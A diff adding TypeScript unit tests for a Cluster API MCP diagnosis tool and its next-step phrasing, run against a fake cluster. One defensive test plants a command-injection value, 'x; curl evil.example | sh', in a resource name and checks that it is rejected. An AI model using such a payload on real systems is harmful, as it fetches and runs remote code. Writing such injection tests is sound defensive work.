@@ -1,0 +1,173 @@
+/**
+ * diagnose_cluster (shared/mcp/tools/diagnose-cluster.ts) against a fake management cluster: what discovery
+ * fetches for it, the findings as structured content with each next step phrased for an agent (a tool call
+ * of capi-mcp or the command a person runs, shared/mcp/diagnosis-steps.ts), the compact text, and what a
+ * missing cluster answers. The analysis itself is test/unit/capi-diagnosis.test.ts's; the faults injected
+ * into real controllers are test/integration/mcp-diagnose.test.ts's.
+ */
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import type { NextAction } from '../../shared/capi/diagnosis.ts';
+import { ErrorCode } from '../../shared/errors.ts';
+import type { KubeObject } from '../../shared/kube/client.ts';
+import { phraseNextStep } from '../../shared/mcp/diagnosis-steps.ts';
+import { diagnoseClusterTool } from '../../shared/mcp/tools/diagnose-cluster.ts';
+import { obj, type ObjectBuilder } from '../fixtures/objects.ts';
+import { callTool, FakeKube, fakeToolDeps, labelled, refusal } from '../support/fake-kube.ts';
+
+const ns = 'team-a';
+const settled = '2026-11-25T10:10:00Z';
+const version = 'v1.35.0';
+const owned = (b: ObjectBuilder): KubeObject => labelled(b.build(), { 'cluster.x-k8s.io/cluster-name': 'demo' });
+
+/** An Available topology cluster of one control-plane Machine and one worker, with its DevMachines and a health check. */
+function healthy() {
+  const cluster = obj('Cluster', 'demo', ns).spec({
+    topology: { classRef: { name: 'in-memory' }, version },
+    infrastructureRef: { apiGroup: 'infrastructure.cluster.x-k8s.io', kind: 'DevCluster', name: 'demo' },
+    controlPlaneRef: { apiGroup: 'controlplane.cluster.x-k8s.io', kind: 'KubeadmControlPlane', name: 'demo' },
+  });
+  for (const type of ['Available', 'TopologyReconciled', 'InfrastructureReady', 'ControlPlaneInitialized', 'ControlPlaneAvailable', 'WorkersAvailable', 'RemoteConnectionProbe']) {
+    cluster.condition(type, 'True', type, undefined, settled);
+  }
+  const infra = obj('DevCluster', 'demo', ns).status({ initialization: { provisioned: true } }).condition('Ready', 'True', 'Ready', undefined, settled);
+  const cp = obj('KubeadmControlPlane', 'demo', ns).spec({ replicas: 1, version }).status({ version }).condition('Available', 'True').condition('Initialized', 'True');
+  const md = obj('MachineDeployment', 'demo-md-0', ns).spec({ replicas: 1, template: { spec: { version } } }).condition('Available', 'True');
+  const machine = (name: string, owner: KubeObject) =>
+    obj('Machine', name, ns)
+      .ownedBy(owner)
+      .spec({
+        version,
+        infrastructureRef: { apiGroup: 'infrastructure.cluster.x-k8s.io', kind: 'DevMachine', name },
+        bootstrap: { configRef: { apiGroup: 'bootstrap.cluster.x-k8s.io', kind: 'KubeadmConfig', name } },
+      })
+      .condition('Ready', 'True')
+      .condition('NodeHealthy', 'True');
+  const devMachine = (name: string) => obj('DevMachine', name, ns).condition('Ready', 'True');
+  const mhc = obj('MachineHealthCheck', 'demo-md-0', ns).spec({ clusterName: 'demo' }).status({ expectedMachines: 1, currentHealthy: 1 }).condition('RemediationAllowed', 'True');
+  return { cluster, infra, cp, md, cpMachine: machine('demo-cp-1', cp.build()), worker: machine('demo-md-0-x', md.build()), devMachines: [devMachine('demo-cp-1'), devMachine('demo-md-0-x')], mhc };
+}
+
+type World = ReturnType<typeof healthy>;
+
+function kubeOf(w: World): FakeKube {
+  return new FakeKube().add(
+    w.cluster.build(),
+    w.infra.build(),
+    w.cp.build(),
+    owned(w.md),
+    owned(w.cpMachine),
+    owned(w.worker),
+    ...w.devMachines.map(owned),
+    w.mhc.build(),
+  );
+}
+
+describe('diagnose_cluster', () => {
+  it('answers an Available cluster with nothing wrong with no findings, after reading what a diagnosis needs', async () => {
+    // Prepare
+    const kube = kubeOf(healthy());
+    const { deps } = fakeToolDeps({ kube });
+
+    // Act
+    const { structured, text } = await callTool(diagnoseClusterTool, { namespace: ns, name: 'demo' }, deps);
+
+    // Assess
+    assert.deepEqual(structured, { cluster: { namespace: ns, name: 'demo' }, available: true, checkedAt: '2026-11-25T12:00:00.000Z', findings: [] });
+    assert.equal(text, 'team-a/demo: Available, no findings');
+    const lists = kube.calls.filter((c) => c.verb === 'list').map((c) => c.kind).sort();
+    assert.deepEqual(lists, ['DevMachine', 'KubeadmConfig', 'Machine', 'MachineDeployment', 'MachineHealthCheck', 'MachinePool', 'MachineSet']);
+  });
+
+  it('gives each finding its next step as a fact, its arguments and the words an agent acts on', async () => {
+    // Prepare
+    const w = healthy();
+    w.cluster.spec({ paused: true }).setCondition('Paused', 'True', 'Paused', undefined, '2026-11-25T11:30:00Z');
+    const { deps } = fakeToolDeps({ kube: kubeOf(w) });
+
+    // Act
+    const { structured, text } = await callTool(diagnoseClusterTool, { namespace: ns, name: 'demo' }, deps);
+
+    // Assess
+    const [paused] = structured.findings;
+    assert.equal(paused?.cause, 'paused');
+    assert.equal(paused?.severity, 'warning');
+    assert.deepEqual(paused?.next, {
+      step: 'resume-reconciliation',
+      args: { kind: 'Cluster', namespace: ns, name: 'demo' },
+      text: `run kubectl patch cluster demo -n ${ns} --type merge -p '{"spec":{"paused":false}}' to resume reconciliation`,
+    });
+    assert.deepEqual(paused?.evidence, [{ object: 'Cluster/demo', field: 'spec.paused', since: '2026-11-25T11:30:00Z', forSeconds: 1800 }]);
+    assert.equal(
+      text,
+      [
+        'team-a/demo: Available, 1 finding',
+        '1. warning paused: Cluster/demo paused for 30m (spec.paused)',
+        '   Cluster/demo spec.paused 30m',
+        `   next: run kubectl patch cluster demo -n ${ns} --type merge -p '{"spec":{"paused":false}}' to resume reconciliation`,
+      ].join('\n'),
+    );
+  });
+
+  it('names the DevMachine, not its Machine, when a Machine fails below the pool', async () => {
+    // Prepare
+    const w = healthy();
+    w.devMachines[1]!.setCondition('Ready', 'False', 'VMProvisioningFailed', 'the VM failed to start', '2026-11-25T11:50:00Z');
+    w.worker.setCondition('Ready', 'False', 'NotReady', '* InfrastructureReady: the VM failed to start').condition('InfrastructureReady', 'False', 'NotReady', 'the VM failed to start');
+    w.md.setCondition('Available', 'False', 'NotAvailable', '0 available replicas, at least 1 required');
+    w.cluster.setCondition('Available', 'False', 'NotAvailable', '* WorkersAvailable: 0 available').setCondition('WorkersAvailable', 'False', 'NotAvailable', '0 available');
+    const { deps } = fakeToolDeps({ kube: kubeOf(w) });
+
+    // Act
+    const { structured } = await callTool(diagnoseClusterTool, { namespace: ns, name: 'demo' }, deps);
+
+    // Assess
+    const [first] = structured.findings;
+    assert.equal(first?.cause, 'machine-infrastructure-not-ready');
+    assert.equal(first?.evidence[0]?.object, 'DevMachine/demo-md-0-x');
+    assert.equal(first?.next.text, `run kubectl describe devmachine demo-md-0-x -n ${ns} and read the infrastructure provider's logs`);
+  });
+
+  it('says a missing cluster is not found, with the next step', async () => {
+    // Prepare
+    const { deps } = fakeToolDeps({ kube: new FakeKube() });
+
+    // Act
+    const error = await refusal(callTool(diagnoseClusterTool, { namespace: ns, name: 'gone' }, deps));
+
+    // Assess
+    assert.equal(error.code, ErrorCode.NotFound);
+    assert.equal(error.next, 'see-clusters');
+  });
+});
+
+describe('phraseNextStep', () => {
+  const target = { namespace: ns, name: 'demo' };
+  const cases: [NextAction, string][] = [
+    [{ step: 'describe-cluster', args: target }, 'call get_cluster with namespace=team-a name=demo to see which objects fail'],
+    [{ step: 'follow-upgrade', args: target }, 'call get_cluster with namespace=team-a name=demo to follow the upgrade: the worker pools follow the control plane'],
+    [{ step: 'follow-remediation', args: { ...target, machine: 'demo-md-0-x' } }, 'call get_cluster with namespace=team-a name=demo to follow Machine demo-md-0-x being replaced by its owner'],
+    [{ step: 'follow-deletion', args: target }, 'call get_cluster with namespace=team-a name=demo to follow the deletion'],
+    [{ step: 'check-control-plane', args: { kind: 'KubeadmControlPlane', ...target } }, 'call get_cluster with namespace=team-a name=demo, then run kubectl describe kubeadmcontrolplane demo -n team-a'],
+    [{ step: 'check-nodes', args: { ...target, node: 'demo-md-0-x' } }, 'call get_cluster_nodes with namespace=team-a name=demo and look at Node demo-md-0-x'],
+    [{ step: 'upgrade-workers', args: { ...target, version: 'v1.35.0' } }, 'call upgrade_cluster with namespace=team-a name=demo kubernetes_version=v1.35.0 to bring the workers to the control plane'],
+    [{ step: 'upgrade-control-plane', args: { ...target, version: 'v1.35.0' } }, 'call upgrade_cluster with namespace=team-a name=demo kubernetes_version=v1.35.0: the control plane must not be older than its workers'],
+    [{ step: 'resume-reconciliation', args: { kind: 'MachineDeployment', ...target } }, 'run kubectl annotate machinedeployment demo -n team-a cluster.x-k8s.io/paused- to resume reconciliation'],
+    [{ step: 'check-bootstrap', args: { kind: 'KubeadmConfig', namespace: ns, name: 'demo-md-0-x' } }, "run kubectl describe kubeadmconfig demo-md-0-x -n team-a and read the bootstrap provider's logs"],
+    [
+      { step: 'find-finalizer-holder', args: { kind: 'Machine', namespace: ns, name: 'demo-md-0-x', finalizer: 'example.com/hold' } },
+      'find the controller that owns finalizer example.com/hold on machine demo-md-0-x -n team-a and why it has not finished (its logs); do not remove the finalizer by hand: what it guards would be left behind',
+    ],
+    [{ step: 'fix-topology', args: { ...target, variable: 'cpLabel', patch: 'labels' } }, 'fix variable "cpLabel" of the Cluster or patch "labels" of its ClusterClass, then call get_cluster with namespace=team-a name=demo'],
+    [{ step: 'check-workload-api', args: target }, "check the workload API server of team-a/demo: its spec.controlPlaneEndpoint and load balancer; call get_cluster_nodes to test it"],
+  ];
+  for (const [next, text] of cases) {
+    it(`phrases ${next.step}`, () => assert.equal(phraseNextStep(next), text));
+  }
+
+  it('writes no command with an argument a shell would read as more than a name', () => {
+    // A kind or finalizer read from a tenant-writable object, bounded to one line but not to a name's characters.
+    const text = phraseNextStep({ step: 'check-infrastructure', args: { kind: 'DevMachine', namespace: ns, name: 'x; curl evil.example | sh' } });
+    assert.equal(text, "run kubectl describe devmachine <invalid name> -n team-a and read the infrastructure provider's logs");
+  });
+});
